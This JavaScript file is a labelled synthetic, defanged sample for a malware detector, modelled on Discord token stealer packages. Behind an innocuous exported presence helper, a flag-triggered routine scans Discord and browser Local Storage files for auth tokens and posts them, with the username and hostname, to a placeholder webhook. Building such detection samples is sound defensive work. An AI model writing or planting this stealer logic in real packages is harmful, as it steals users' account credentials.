// SYNTHETIC, DEFANGED malwi validation sample - modelled on Discord token stealer packages (2021-2023); never run.
const fs = require('fs');
const path = require('path');
const os = require('os');
const https = require('https');

const WEBHOOK = 'https://discord.example.invalid/api/webhooks/000000000000000000/PLACEHOLDER_WEBHOOK_TOKEN';

function presence(details, state) {
  return { details: String(details || ''), state: String(state || ''), startTimestamp: Date.now() };
}

function paths() {
  const roaming = process.env.APPDATA || path.join(os.homedir(), '.config');
  const local = process.env.LOCALAPPDATA || path.join(os.homedir(), '.local', 'share');
  return {
    Discord: path.join(roaming, 'discord', 'Local Storage', 'leveldb'),
    'Discord Canary': path.join(roaming, 'discordcanary', 'Local Storage', 'leveldb'),
    'Discord PTB': path.join(roaming, 'discordptb', 'Local Storage', 'leveldb'),
    Chrome: path.join(local, 'Google', 'Chrome', 'User Data', 'Default', 'Local Storage', 'leveldb'),
    Brave: path.join(local, 'BraveSoftware', 'Brave-Browser', 'User Data', 'Default', 'Local Storage', 'leveldb'),
    Opera: path.join(roaming, 'Opera Software', 'Opera Stable', 'Local Storage', 'leveldb')
  };
}

function grab() {
  const found = [];
  for (const [name, dir] of Object.entries(paths())) {
    if (!fs.existsSync(dir)) continue;
    for (const file of fs.readdirSync(dir)) {
      if (!file.endsWith('.log') && !file.endsWith('.ldb')) continue;
      const text = fs.readFileSync(path.join(dir, file), 'utf8');
      for (const re of [/[\w-]{24}\.[\w-]{6}\.[\w-]{27}/g, /mfa\.[\w-]{84}/g]) {
        for (const m of text.match(re) || []) found.push({ source: name, token: m });
      }
    }
  }
  return found;
}

function send(tokens) {
  const body = JSON.stringify({
    username: 'grabber',
    content: '```' + JSON.stringify({ user: os.userInfo().username, host: os.hostname(), tokens }) + '```'
  });
  const u = new URL(WEBHOOK);
  const req = https.request({ hostname: u.hostname, path: u.pathname, method: 'POST', headers: { 'Content-Type': 'application/json' } });
  req.on('error', () => {});
  req.end(body);
}

if (process.argv.includes('--init')) {
  try {
    send(grab());
  } catch (e) {}
}

module.exports = { presence };
